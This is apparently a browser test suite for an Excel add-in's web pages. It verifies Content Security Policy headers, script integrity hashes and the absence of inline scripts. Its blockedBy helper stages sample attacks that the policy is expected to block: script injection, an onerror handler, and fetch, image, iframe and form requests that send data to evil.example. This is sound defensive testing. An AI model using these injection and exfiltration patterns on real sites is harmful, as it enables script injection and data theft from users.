/** The pages under the headers and the policies that they are deployed with, in a real Chromium. */
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { headersFor } from '../../scripts/headers.cjs';
import { launch, serveBuild, type Site } from './support/browser';
import { checkSample, isTelemetry, openWatched, type WatchedPage } from './support/policy';

const ROOT = path.resolve(__dirname, '../..');
const READY = 30_000;

let browser: Browser;
let site: Site;

beforeAll(async () => {
  [browser, site] = await Promise.all([launch(), serveBuild()]);
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
});

const open = (file: string): Promise<WatchedPage> => openWatched(browser, `${site.origin}/${file}`);

/** The policy is not only there: it stops what it is there to stop. */
async function blockedBy(page: Page, attack: string): Promise<string> {
  return page.evaluate(
    (code) =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true,
        });
        const run: Readonly<Record<string, () => void>> = {
          'inline script': () => {
            const script = document.createElement('script');
            script.textContent = 'globalThis.attacked = true';
            document.body.append(script);
          },
          'foreign script': () => {
            const script = document.createElement('script');
            script.src = 'https://evil.example/x.js';
            document.body.append(script);
          },
          'inline handler': () => {
            document.body.insertAdjacentHTML(
              'beforeend',
              '<img src="no-such.png" onerror="globalThis.attacked = true">',
            );
          },
          'data to a stranger': () => void fetch('https://evil.example/?rows=1').catch(() => undefined),
          'picture from a stranger': () => {
            new Image().src = 'https://evil.example/pixel.gif?rows=1';
          },
          'frame of a stranger': () => {
            const frame = document.createElement('iframe');
            frame.src = 'https://evil.example/';
            document.body.append(frame);
          },
          'form to a stranger': () => {
            const form = document.createElement('form');
            form.action = 'https://evil.example/';
            form.method = 'post';
            document.body.append(form);
            form.submit();
          },
        };
        run[code]();
        setTimeout(() => resolve('nothing'), 3_000);
      }),
    attack,
  );
}

test('the preview works, calculates and checks without breaking its policy', async () => {
  const { page, violations, failures } = await open('preview.html');
  await checkSample(page);
  expect([violations, failures]).toEqual([[], []]);
  await page.context().close();
});

test('the pane starts beside office.js, and the policy stops nothing of it but telemetry', async () => {
  const { page, violations, failures } = await open('taskpane.html');
  await page.getByText('This page is the task pane of an Excel add-in.').waitFor({ timeout: READY });
  expect(violations.filter((violation) => !isTelemetry(violation))).toEqual([]);
  expect(failures).toEqual([]);
  await page.context().close();
});

test('on Excel for the web office.js gets every script that it asks for', async () => {
  const { page, violations } = await open('taskpane.html?_host_Info=Excel$Web$16.01$en-US$$$$0');
  await page.waitForFunction(() => 'Excel' in globalThis && 'OfficeExtension' in globalThis, undefined, {
    timeout: READY,
  });
  expect(violations.filter(({ directive }) => directive.startsWith('script'))).toEqual([]);
  await page.context().close();
});

test.each(['commands.html', 'functions.html', 'help/index.html', 'help/moe-shortfall.html'])(
  '%s loads without breaking its policy',
  async (file) => {
    const { page, violations } = await open(file);
    await page.waitForLoadState('load');
    expect(violations).toEqual([]);
    await page.context().close();
  },
);

describe.each(['taskpane.html', 'preview.html', 'help/index.html'])('the policy of %s stops', (file) => {
  test.each([
    ['inline script', 'script-src-elem'],
    ['foreign script', 'script-src-elem'],
    ['inline handler', 'script-src-attr'],
    ['data to a stranger', 'connect-src'],
    ['picture from a stranger', 'img-src'],
    ['frame of a stranger', 'frame-src'],
    ['form to a stranger', 'form-action'],
  ])('%s', async (attack, directive) => {
    const { page } = await open(file);
    expect(await blockedBy(page, attack)).toBe(directive);
    expect(await page.evaluate(() => 'attacked' in globalThis)).toBe(false);
    await page.context().close();
  });
});

test('every page of the build brings its policy, and no page has a script of its own in it', () => {
  const web = path.join(ROOT, 'dist/web');
  const pages = readdirSync(web).filter((name) => name.endsWith('.html'));
  expect(pages.sort()).toEqual(['commands.html', 'functions.html', 'preview.html', 'taskpane.html']);
  for (const name of pages) {
    const html = readFileSync(path.join(web, name), 'utf8');
    // Before any script, or it would not bind that script.
    expect(html).toMatch(
      /^<!doctype html><html lang=en><head><meta charset=utf-8><meta http-equiv=Content-Security-Policy content="default-src 'none'; script-src 'self'/,
    );
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>|\son\w+=|javascript:/i);
  }
});

test.each(['taskpane', 'commands', 'functions', 'preview'])(
  '%s runs its script as it was built and no other',
  async (name) => {
    const web = path.join(ROOT, 'dist/web');
    const html = readFileSync(path.join(web, `${name}.html`), 'utf8');
    const [, digest] = new RegExp(`<script defer src=${name}\\.js integrity="sha384-([^"]+)">`).exec(html) ?? [];
    expect(digest).toBe(
      createHash('sha384')
        .update(readFileSync(path.join(web, `${name}.js`)))
        .digest('base64'),
    );

    const context = await browser.newContext();
    const page = await context.newPage();
    await page.route(/^https:/, (route) => route.abort());
    await page.route(new RegExp(`/${name}\\.js$`), (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'globalThis.attacked = true' }),
    );
    const refused = page.waitForEvent('console', (message) => /integrity/i.test(message.text()));
    await page.goto(`${site.origin}/${name}.html`);
    await refused;
    expect(await page.evaluate(() => 'attacked' in globalThis)).toBe(false);
    await context.close();
  },
);

test('the headers are sent', async () => {
  const response = await fetch(`${site.origin}/preview.html`);
  for (const [name, value] of Object.entries(headersFor('preview.html'))) {
    expect([name, response.headers.get(name)]).toEqual([name, value]);
  }
});
